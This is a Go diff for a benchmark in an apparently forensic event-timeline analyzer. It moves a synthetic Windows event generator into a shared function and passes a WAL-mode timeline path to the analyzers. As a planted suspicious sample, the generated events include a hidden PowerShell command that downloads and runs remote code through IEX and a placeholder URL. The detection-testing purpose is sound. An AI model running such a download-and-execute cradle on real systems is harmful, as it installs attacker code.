@@ -16,44 +16,21 @@ import (
 // 1,000,000 events: process starts (a tenth of them interpreters, some
 // suspicious), PowerShell logs, prefetch runs and image loads.
 func BenchmarkMillionEvents(b *testing.B) {
-	images := []string{`C:\Windows\System32\svchost.exe`, `C:\Windows\System32\conhost.exe`, `C:\Program Files\App\app.exe`,
-		`C:\Windows\System32\cmd.exe`, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`}
-	db := syntheticTimeline(b, 1_000_000, func(i int, e *timeline.Event) {
-		switch i % 10 {
-		case 0, 1, 2, 3, 4, 5:
-			e.EventID, e.Provider = 4688, "Microsoft-Windows-Security-Auditing"
-			e.Process, e.ParentProcess = images[i%len(images)], `C:\Windows\explorer.exe`
-			e.CommandLine = fmt.Sprintf("%s /c echo %d", e.Process, i)
-			if i%1000 == 0 {
-				e.Process = images[4]
-				e.CommandLine = "powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://x')"
-			}
-		case 6:
-			e.EventID, e.Provider, e.Process = 7, "Microsoft-Windows-Sysmon", images[i%len(images)]
-			e.Data = map[string]any{"ImageLoaded": `C:\Windows\System32\kernel32.dll`, "Signed": "true"}
-		case 7:
-			e.EventID, e.Provider = 4104, "Microsoft-Windows-PowerShell"
-			e.ScriptBlockID = fmt.Sprintf("sb-%d", i/7000)
-			e.Data = map[string]any{"ScriptBlockText": "Get-ChildItem | Sort-Object Length", "MessageNumber": "1", "MessageTotal": "1", "ScriptBlockId": e.ScriptBlockID}
-		case 8:
-			e.Source, e.Process = "prefetch", images[i%len(images)]
-			e.Data = map[string]any{"executable": "APP.EXE", "files": []string{`\VOLUME{1}\WINDOWS\SYSTEM32\NTDLL.DLL`}}
-			if i%1000 == 8 {
-				e.Process = `\VOLUME{1}\WINDOWS\SYSTEM32\WSCRIPT.EXE`
-				e.Data = map[string]any{"executable": "WSCRIPT.EXE", "files": []string{`\VOLUME{1}\WINDOWS\SYSTEM32\JSCRIPT.DLL`,
-					`\VOLUME{1}\USERS\PUBLIC\A.JS`}}
-			}
-		default:
-			e.EventID, e.Provider = 4624, "Microsoft-Windows-Security-Auditing"
-		}
-	})
+	path := filepath.Join(b.TempDir(), "timeline.db")
+	db := syntheticTimelineAt(b, path, 1_000_000, mixedEvent)
 	defer db.Close()
+	// As a run gives them: the timeline in WAL mode, and its path, so
+	// that analyzers can read it beside one another.
+	if err := timeline.Share(db); err != nil {
+		b.Fatal(err)
+	}
+	opts := Options{TimelinePath: path}
 	b.ResetTimer()
 	// The machine is shared, so wall time alone says little: CPU seconds per
 	// run are reported too, as the figure that does not depend on the load.
 	cpuBefore := cpuSeconds()
 	for i := 0; i < b.N; i++ {
-		sum, err := Run(context.Background(), db, Options{})
+		sum, err := Run(context.Background(), db, opts)
 		if err != nil {
 			b.Fatal(err)
 		}
@@ -105,4 +82,41 @@ func syntheticTimelineAt(b testing.TB, path string, n int, fill func(i int, e *t
 		b.Fatal(err)
 	}
 	return db
+}
+
+var mixedImages = []string{`C:\Windows\System32\svchost.exe`, `C:\Windows\System32\conhost.exe`, `C:\Program Files\App\app.exe`,
+	`C:\Windows\System32\cmd.exe`, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`}
+
+// mixedEvent fills the i-th event of the synthetic timelines: process
+// starts (a tenth of them interpreters, some suspicious), PowerShell logs,
+// prefetch runs, image loads and logons.
+func mixedEvent(i int, e *timeline.Event) {
+	images := mixedImages
+	switch i % 10 {
+	case 0, 1, 2, 3, 4, 5:
+		e.EventID, e.Provider = 4688, "Microsoft-Windows-Security-Auditing"
+		e.Process, e.ParentProcess = images[i%len(images)], `C:\Windows\explorer.exe`
+		e.CommandLine = fmt.Sprintf("%s /c echo %d", e.Process, i)
+		if i%1000 == 0 {
+			e.Process = images[4]
+			e.CommandLine = "powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://x')"
+		}
+	case 6:
+		e.EventID, e.Provider, e.Process = 7, "Microsoft-Windows-Sysmon", images[i%len(images)]
+		e.Data = map[string]any{"ImageLoaded": `C:\Windows\System32\kernel32.dll`, "Signed": "true"}
+	case 7:
+		e.EventID, e.Provider = 4104, "Microsoft-Windows-PowerShell"
+		e.ScriptBlockID = fmt.Sprintf("sb-%d", i/7000)
+		e.Data = map[string]any{"ScriptBlockText": "Get-ChildItem | Sort-Object Length", "MessageNumber": "1", "MessageTotal": "1", "ScriptBlockId": e.ScriptBlockID}
+	case 8:
+		e.Source, e.Process = "prefetch", images[i%len(images)]
+		e.Data = map[string]any{"executable": "APP.EXE", "files": []string{`\VOLUME{1}\WINDOWS\SYSTEM32\NTDLL.DLL`}}
+		if i%1000 == 8 {
+			e.Process = `\VOLUME{1}\WINDOWS\SYSTEM32\WSCRIPT.EXE`
+			e.Data = map[string]any{"executable": "WSCRIPT.EXE", "files": []string{`\VOLUME{1}\WINDOWS\SYSTEM32\JSCRIPT.DLL`,
+				`\VOLUME{1}\USERS\PUBLIC\A.JS`}}
+		}
+	default:
+		e.EventID, e.Provider = 4624, "Microsoft-Windows-Security-Auditing"
+	}
 }
